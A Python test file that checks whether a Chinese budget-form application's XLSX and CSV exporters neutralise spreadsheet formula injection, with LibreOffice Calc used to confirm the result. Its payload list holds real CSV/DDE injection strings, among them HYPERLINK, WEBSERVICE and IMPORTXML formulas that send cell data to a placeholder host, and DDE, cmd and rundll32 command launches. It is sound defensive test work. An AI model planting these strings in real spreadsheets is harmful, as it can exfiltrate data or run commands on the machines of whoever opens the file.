"""No unit's text becomes a formula in the bureau's summary or in a form's workbook (issue 18, item 1).

A unit controls its 单位名称, and an unreadable amount is written as typed. Before the fix, a
name ``=HYPERLINK("http://x/?"&B4,"点我")`` gave ``summary out.xlsx`` a live formula cell and
``summary out.csv`` a field Calc imported as a formula. Both files (and the form exporter) now
write through ``exporters.cells``; LibreOffice Calc itself is asked what it sees.
"""

from __future__ import annotations

import csv
import io
import os
import signal
import subprocess
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from jixiao_desktop.bureau.summary import csv_text, write_summary
from jixiao_desktop.domain.model import Form, FormStatus
from jixiao_desktop.exporters import cells
from jixiao_desktop.exporters.xlsx import export_xlsx
from jixiao_desktop.importers.convert import find_soffice
from jixiao_desktop.storage.bureau import SummaryRow

# The usual payloads (OWASP CSV injection, DDE, Calc's own functions), as a unit could type them.
PAYLOADS = [
    '=HYPERLINK("http://x/?"&B4,"点我")',
    "=cmd|' /C calc'!A0",
    "=WEBSERVICE(\"http://x/\"&A4)",
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "+1+1",
    "-1+1",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "=IMPORTXML(CONCAT(\"http://x/?v=\",CONCATENATE(A2:E2)),\"//a\")",
    "=IMAGE(\"http://x/p.png\")",
    "=FILTERXML(WEBSERVICE(\"http://x/\"),\"//a\")",
    "=EXEC(\"calc\")",
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "＝1+1",
    "=SUM(A1:A3)北京市西城区",
]


def hostile_rows() -> list[SummaryRow]:
    at = datetime(2026, 3, 15, 9, 30, tzinfo=UTC)
    return [SummaryRow(id=i + 1, uuid=f"u{i}", department=p, year=2026, status=FormStatus.DRAFT,
                       total=p, basic="-12.50", project="100", errors=0, warnings=0, revision=1, updated_at=at)
            for i, p in enumerate(PAYLOADS)]


def formula_cells(path: Path) -> list[str]:
    """Every cell of every sheet that holds a formula (openpyxl and the raw XML agree)."""
    found = []
    wb = load_workbook(path)
    for ws in wb.worksheets:
        found += [f"{ws.title}!{c.coordinate}" for row in ws.iter_rows() for c in row if c.data_type == "f"]
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/") and (b"<f>" in zf.read(name) or b"<f " in zf.read(name)):
                found.append(name)
    return found


def test_the_summary_workbook_holds_the_payloads_as_text(tmp_path: Path) -> None:
    out = tmp_path / "汇总.xlsx"
    write_summary(hostile_rows(), str(out))
    assert formula_cells(out) == []
    ws = load_workbook(out).active
    assert ws is not None
    names = [ws.cell(row=4 + i, column=1).value for i in range(len(PAYLOADS))]
    typed = [ws.cell(row=4 + i, column=4).value for i in range(len(PAYLOADS))]
    expected = [p.replace("\r", "\n") for p in PAYLOADS]  # a line break is kept as Excel's own
    assert names == expected and typed == expected  # what the unit typed, to the character
    assert all(ws.cell(row=4 + i, column=1).quotePrefix for i, p in enumerate(PAYLOADS) if cells.formula_like(p))
    assert ws.cell(row=4, column=5).value == -12.5 or str(ws.cell(row=4, column=5).value) == "-12.50"  # numbers stay numbers


def test_the_summary_csv_has_no_field_a_spreadsheet_would_evaluate() -> None:
    text = csv_text(hostile_rows())
    fields = [f for row in csv.reader(io.StringIO(text)) for f in row]
    dangerous = [f for f in fields if f and f[0] in "=+-@\t\r＝" and not cells.PLAIN_NUMBER.fullmatch(f)]
    assert dangerous == []
    assert "'" + PAYLOADS[0] in fields and "-12.50" in fields  # text escaped, a negative amount kept


def test_the_form_workbook_holds_every_field_as_text(tmp_path: Path, jinrongjie: Form) -> None:
    form = jinrongjie
    form.department = PAYLOADS[0]
    form.goals = PAYLOADS[1]
    form.other_notes = PAYLOADS[2]
    form.funds.total = PAYLOADS[3]
    form.funds.project = PAYLOADS[7]
    for i, ind in enumerate(form.indicators):
        ind.name = PAYLOADS[i % len(PAYLOADS)]
        ind.content = PAYLOADS[(i + 1) % len(PAYLOADS)]
        for j, item in enumerate(ind.items):
            item.level3 = PAYLOADS[(i + j) % len(PAYLOADS)]
            item.value = PAYLOADS[(i + j + 3) % len(PAYLOADS)]
            item.unit = "@A1"
            item.weight = "+1+1"
    out = tmp_path / "form.xlsx"
    export_xlsx(form, out)
    assert formula_cells(out) == []


SOFFICE = find_soffice()
CALC = SOFFICE is not None and (SOFFICE.resolve().parent / "libsclo.so").exists()


def calc_converts(source: Path, folder: Path, infilter: str | None = None) -> Path:
    """LibreOffice Calc opens ``source`` (as a clerk would) and saves it as .xlsx."""
    assert SOFFICE is not None
    cmd = [str(SOFFICE), f"-env:UserInstallation={(folder / 'profile').as_uri()}", "--headless", "--norestore"]
    if infilter:
        cmd.append(f"--infilter={infilter}")
    out = folder / "calc"
    cmd += ["--convert-to", "xlsx:Calc MS Excel 2007 XML", "--outdir", str(out), str(source)]
    proc = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, start_new_session=True)
    try:
        _out, err = proc.communicate(timeout=180)
    except subprocess.TimeoutExpired:
        os.killpg(proc.pid, signal.SIGKILL)
        proc.communicate()
        pytest.fail("LibreOffice did not convert within 180 s")
    converted = out / (source.stem + ".xlsx")
    assert proc.returncode == 0 and converted.exists(), err.decode(errors="replace")
    return converted


@pytest.mark.slow
@pytest.mark.skipif(not CALC, reason="LibreOffice Calc 未安装（Debian：libreoffice-calc-nogui；.ci/run 会安装）")
def test_calc_computes_nothing_in_either_summary(tmp_path: Path) -> None:
    rows = hostile_rows()
    write_summary(rows, str(tmp_path / "汇总.xlsx"))
    write_summary(rows, str(tmp_path / "汇总csv.csv"))
    from_xlsx = calc_converts(tmp_path / "汇总.xlsx", tmp_path)
    from_csv = calc_converts(tmp_path / "汇总csv.csv", tmp_path, "CSV:44,34,76,1")  # comma, quote, UTF-8
    assert formula_cells(from_xlsx) == []
    assert formula_cells(from_csv) == []
    ws = load_workbook(from_csv).active
    assert ws is not None
    assert any(PAYLOADS[0] in str(c.value) for c in ws["A"])  # the name is there, as text
